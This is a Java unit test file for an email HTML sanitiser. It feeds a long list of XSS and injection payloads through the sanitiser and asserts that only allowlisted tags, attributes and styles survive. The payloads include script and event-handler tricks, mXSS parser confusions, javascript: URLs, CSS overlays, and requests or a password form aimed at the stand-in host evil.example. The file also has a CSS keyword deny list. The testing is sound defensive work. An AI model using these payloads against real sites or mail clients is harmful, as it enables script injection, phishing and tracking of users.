package tandem.channels.email.mime;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import tandem.channels.email.QuotedText;

class SafeHtmlTest {

  private static final Set<String> ELEMENTS = Set.of(
      "html",
      "head",
      "body",
      "a",
      "abbr",
      "address",
      "article",
      "aside",
      "b",
      "bdi",
      "bdo",
      "big",
      "blockquote",
      "br",
      "caption",
      "center",
      "cite",
      "code",
      "col",
      "colgroup",
      "dd",
      "del",
      "dfn",
      "div",
      "dl",
      "dt",
      "em",
      "figcaption",
      "figure",
      "font",
      "footer",
      "h1",
      "h2",
      "h3",
      "h4",
      "h5",
      "h6",
      "header",
      "hr",
      "i",
      "img",
      "ins",
      "kbd",
      "li",
      "main",
      "nav",
      "ol",
      "p",
      "pre",
      "q",
      "s",
      "samp",
      "section",
      "small",
      "span",
      "strike",
      "strong",
      "sub",
      "sup",
      "table",
      "tbody",
      "td",
      "tfoot",
      "th",
      "thead",
      "tr",
      "tt",
      "u",
      "ul",
      "var",
      "wbr");

  private static final Set<String> ATTRIBUTES = Set.of(
      "href",
      "rel",
      "target",
      "src",
      "data-cid",
      "data-remote-src",
      "alt",
      "title",
      "class",
      "id",
      "dir",
      "lang",
      "align",
      "valign",
      "color",
      "bgcolor",
      "width",
      "height",
      "face",
      "size",
      "border",
      "cellpadding",
      "cellspacing",
      "colspan",
      "rowspan",
      "span",
      "start",
      "value",
      "type",
      "style");

  /** A word in quotes is the name of a font. */
  private static final Pattern QUOTED = Pattern.compile("'[^'\\\\]*'");

  /** Known ways to smuggle a script, a request or an overlay through a sanitiser. */
  static List<String> attacks() {
    return List.of(
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\"onerror=alert(1)//\">",
        "<img/src/onerror=alert(1)>",
        "<img \u0000src=x onerror=alert(1)>",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
        "<img src=`javascript:alert(1)`>",
        "<body onload=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><use href=\"data:image/svg+xml,...#x\"/></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<plaintext><img src=x onerror=alert(1)>",
        "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>",
        "<applet code=x>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import url(//evil.example/x);body{background:url(//evil.example)}</style>",
        "<style><!--</style><script>alert(1)//--></script>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=JaVaScRiPt&colon;alert(1)>x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=vbscript:x>x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<a href=\"/api/v1/logout\">x</a>",
        "<a href=\"blob:https://x/1\">x</a>",
        "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
        "<a href=https://x.example target=_top rel=opener>x</a>",
        "<a ping=//evil.example href=https://x.example>x</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "<img src=\"data:image/png,<script>\">",
        "<img src=https://evil.example/p.gif>",
        "<img srcset=\"https://evil.example/p.gif 2x\">",
        "<img lowsrc=//evil.example dynsrc=//evil.example longdesc=//evil.example>",
        "<picture><source srcset=//evil.example/p></picture>",
        "<video src=//evil.example poster=//evil.example><audio src=//evil.example autoplay>",
        "<input type=image src=//evil.example>",
        "<form action=//evil.example><input name=password><button>x</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<isindex action=javascript:alert(1)>",
        "<table background=//evil.example><td background=//evil.example>",
        "<div style=\"background:url(//evil.example)\">",
        "<div style=\"background-image:u\\72l(//evil.example)\">",
        "<div style=\"background:url&#40;//evil.example&#41;\">",
        "<div style=\"list-style:url(//evil.example)\">",
        "<div style=\"width:expression(alert(1))\">",
        "<div style=\"behavior:url(#x)\">",
        "<div style=\"-moz-binding:url(//evil.example)\">",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">over</div>",
        "<div style=\"pos/**/ition:absolute\">",
        "<div style=\"p\\6fsition:fixed\">",
        "<div style=\"margin-top:-1000px\">",
        "<div style=\"transform:translate(-100px)\">",
        "<div style=\"content:url(x)\">",
        "<div style=\"color:red;}</style><script>alert(1)</script>\">",
        "<div style=\"font-family:'x;position:fixed'\">",
        "<div style=\"background:image-set('//evil.example' 1x)\">",
        "<div style=\"cursor:url(//evil.example),auto\">",
        "<div style=\"filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src=//evil.example)\">",
        "<div style=\"--x:url(//evil.example);background:var(--x)\">",
        "<div id=app class=\"modal overlay\" data-remote-src=//evil.example data-cid=x>x</div>",
        "<img data-remote-src=javascript:alert(1) data-cid=x>",
        "<a name=x id=location>x</a>",
        "<div id=__proto__>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "<!DOCTYPE x [<!ENTITY e \"<script>alert(1)</script>\">]>&e;",
        "<x onclick=alert(1)>",
        "<custom-element onfocus=alert(1) tabindex=1 autofocus>",
        "<details open ontoggle=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<dialog open>",
        "<keygen autofocus onfocus=alert(1)>",
        "<portal src=//evil.example>",
        "<frameset onload=alert(1)><frame src=//evil.example>",
        "<slot name=x>",
        "<p contenteditable accesskey=x onkeydown=alert(1)>",
        "<img src=x:x usemap=#m><map name=m><area href=javascript:alert(1)></map>",
        "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<<script>alert(1)//<</script>",
        "<a <!-- --> href=javascript:alert(1)>x",
        "<a href='x' href='javascript:alert(1)'>x</a>");
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void nothing_runs_loads_or_covers(String attack) {
    for (var html : List.of(
        attack,
        "<div><table><tr><td>" + attack,
        "<p title='" + attack + "'>x</p>",
        "<a href=\"" + attack + "\">x</a>")) {
      assertHarmless(SafeHtml.of(html).html());
      assertHarmless(SafeHtml.of(SafeHtml.of(html).html()).html());
    }
  }

  @Test
  void pieces_of_attacks_in_any_order_do_no_harm() {
    var random = new Random(7);
    var attacks = attacks();
    for (int i = 0; i < 2000; i++) {
      var mixed = new StringBuilder();
      for (int piece = 0; piece < 6; piece++) {
        var attack = attacks.get(random.nextInt(attacks.size()));
        int from = random.nextInt(attack.length());
        mixed.append(attack, from, from + random.nextInt(attack.length() - from) + 1);
      }
      assertHarmless(SafeHtml.of(mixed.toString()).html());
    }
  }

  static void assertHarmless(String safe) {
    assertOnlyAllowed(safe);
    var split = QuotedText.ofHtml(safe);
    assertOnlyAllowed(split.fresh());
    assertOnlyAllowed(split.quoted());
    assertOnlyAllowed(split.signature());
  }

  private static void assertOnlyAllowed(String safe) {
    for (var element : Jsoup.parse(safe).getAllElements()) {
      if (element.normalName().startsWith("#")) {
        continue;
      }
      assertThat(ELEMENTS).as(safe).contains(element.normalName());
      element.attributes().forEach(attribute -> {
        assertThat(ATTRIBUTES).as(safe).contains(attribute.getKey());
        assertAttribute(
            element, attribute.getKey(), attribute.getValue().toLowerCase(Locale.ROOT), safe);
      });
    }
  }

  private static void assertAttribute(Element element, String name, String value, String safe) {
    switch (name) {
      case "href" -> {
        assertThat(value).as(safe).matches("(?s)(https?://|mailto:|tel:).*");
        assertThat(element.attr("rel")).isEqualTo("noopener noreferrer nofollow");
        assertThat(element.attr("target")).isEqualTo("_blank");
      }
      case "src" ->
        assertThat(value)
            .as(safe)
            .matches("(?s)data:image/(png|jpe?g|gif|webp|bmp);base64,[a-z0-9+/=\\s]*");
      case "data-remote-src" -> assertThat(value).as(safe).matches("(?s)https?://.*");
      case "style" ->
        assertThat(QUOTED.matcher(value).replaceAll(""))
            .as(safe)
            .doesNotContain(
                "url",
                "position",
                "expression",
                "behavior",
                "binding",
                "z-index",
                "transform",
                "content",
                "image-set",
                "cursor",
                "filter",
                "var(",
                "\\",
                "@",
                "margin-top:-");
      case "id", "class" ->
        assertThat(SafeHtml.MARKS).as(safe).containsAll(List.of(value.split(" ")));
      default -> {}
    }
  }

  @Test
  void the_looks_of_a_mail_stay() {
    var html =
        "<p style=\"color:#ff0000;font-size:12pt;text-align:center\">x</p><table border=\"1\" cellpadding=\"2\" width=\"100%\"><tr><td colspan=\"2\" bgcolor=\"#eeeeee\">y</td></tr></table>"
            + "<font color=\"red\" face=\"Arial\" size=\"2\">z</font><ol start=\"3\"><li>a</li></ol><blockquote type=\"cite\">q</blockquote>";
    var safe = Jsoup.parse(SafeHtml.of(html).html());

    assertThat(safe.selectFirst("p").attr("style"))
        .contains("color:#ff0000")
        .contains("font-size:12pt")
        .contains("text-align:center");
    assertThat(safe.selectFirst("table").attr("width")).isEqualTo("100%");
    assertThat(safe.selectFirst("td").attr("bgcolor")).isEqualTo("#eeeeee");
    assertThat(safe.selectFirst("font").attr("face")).isEqualTo("Arial");
    assertThat(safe.selectFirst("ol").attr("start")).isEqualTo("3");
    assertThat(safe.selectFirst("blockquote").attr("type")).isEqualTo("cite");
  }

  @Test
  void links_open_apart_and_images_wait() {
    var safe = SafeHtml.of(
        "<a href=\"https://shop.example/?a=1&amp;b=2\">x</a><img src=\"http://t.example/a.gif\"><img src=\"//t.example/b.gif\"><img src=\"cid:a%40b\" alt=\"A\">"
            + "<img src=\"data:image/png;base64,iVBORw0KGgo=\"><img src=\"data:image/png;base64,"
            + "A".repeat(400_000) + "\">");
    var page = Jsoup.parse(safe.html());

    assertThat(page.selectFirst("a").attr("href")).isEqualTo("https://shop.example/?a=1&b=2");
    assertThat(page.select("img").eachAttr("data-remote-src"))
        .containsExactly("http://t.example/a.gif", "https://t.example/b.gif");
    assertThat(page.select("img").eachAttr("data-cid")).containsExactly("a@b");
    assertThat(page.select("img[src]")).hasSize(1);
    assertThat(safe.remoteImages()).isEqualTo(2);
  }

  @Test
  void titles_styles_and_scripts_leave_no_words() {
    assertThat(Jsoup.parse(SafeHtml.of(
                    "<html><head><title>T</title><style>s{}</style></head><body><script>v</script>words</body></html>")
                .html())
            .text())
        .isEqualTo("words");
  }
}
